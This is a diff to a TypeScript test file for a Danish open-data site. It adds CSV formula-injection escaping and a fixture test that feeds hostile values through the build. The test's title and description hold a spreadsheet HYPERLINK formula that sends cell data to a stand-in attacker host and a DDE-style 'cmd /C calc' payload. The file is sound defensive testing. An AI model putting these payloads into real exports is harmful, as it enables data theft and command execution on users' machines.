@@ -7,6 +7,7 @@ import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { CONTENT, DIST, contentEntries, page } from '../helpers/dist';
 import { validate } from '../helpers/json-schema-validator';
+import { buildFixture, PROJECT_ROOT } from '../helpers/fixture-site';
 
 type Row = Record<string, unknown>;
 const NAMES = ['kommuner', 'indsatser', 'strategier', 'indgange', 'interviewsvar'] as const;
@@ -45,12 +46,19 @@ function expectedKeys(name: (typeof NAMES)[number]): { keys: string[]; keyOf: (r
   }
 }
 
-/** A JSON value as its CSV cell reads. */
+/** A JSON value as its CSV cell reads: text a spreadsheet would run as a formula gets a leading `'` (OWASP). */
 function cell(value: unknown): string {
   if (value === undefined || value === null) return '';
-  if (Array.isArray(value)) return value.join(', ');
-  if (typeof value === 'boolean') return value ? 'ja' : 'nej';
-  return typeof value === 'string' ? value : JSON.stringify(value);
+  const text = Array.isArray(value)
+    ? value.join(', ')
+    : typeof value === 'boolean'
+      ? value
+        ? 'ja'
+        : 'nej'
+      : typeof value === 'string'
+        ? value
+        : JSON.stringify(value);
+  return typeof value !== 'number' && /^ *[=+\-@\t\r]/.test(text) ? `'${text}` : text;
 }
 
 describe.each(NAMES)('/data/%s', (name) => {
@@ -128,5 +136,33 @@ describe('the open data, overall', () => {
   it('is linked from the footer of every page and from the about page', () => {
     expect(page('om/').querySelectorAll('main a[href="/data/"]').length).toBeGreaterThan(0);
     expect(page('kommuner/aalborg/').querySelector('footer a[href="/data/"]')).not.toBeNull();
+  });
+});
+
+describe('escaping per format, in a fixture build', () => {
+  const INITIATIVE = 'content/indsatser/aalborg/startup-cafeer.yaml';
+  const original = readFileSync(path.join(PROJECT_ROOT, 'tests/fixtures/minimal', INITIATIVE), 'utf8');
+  const title = '=HYPERLINK("https://evil.example/?"&A1;"Klik")';
+  const description = '@SUM(1+1)*cmd|" /C calc"!A0 <b>&amp;</b>';
+  const result = buildFixture('open-data-escaping', {
+    [INITIATIVE]: original
+      .replace(/^title: .*$/m, `title: ${JSON.stringify(title)}`)
+      .replace(/^description: .*$/m, `description: ${JSON.stringify(description)}`),
+  });
+  const file = (name: string) => readFileSync(path.join(result.root, 'dist/data', name), 'utf8');
+
+  it('builds', () => {
+    expect(result.status, result.output).toBe(0);
+  });
+
+  it('CSV: cells starting like a formula are text with a leading apostrophe', () => {
+    const [row] = parse<Record<string, string>>(file('indsatser.csv'), { bom: true, delimiter: ';', columns: true });
+    expect(row!['title']).toBe(`'${title}`);
+    expect(row!['description']).toBe(`'${description}`);
+  });
+
+  it('JSON: the same values exactly, as JSON', () => {
+    const [record] = JSON.parse(file('indsatser.json')) as Row[];
+    expect(record).toMatchObject({ title, description });
   });
 });
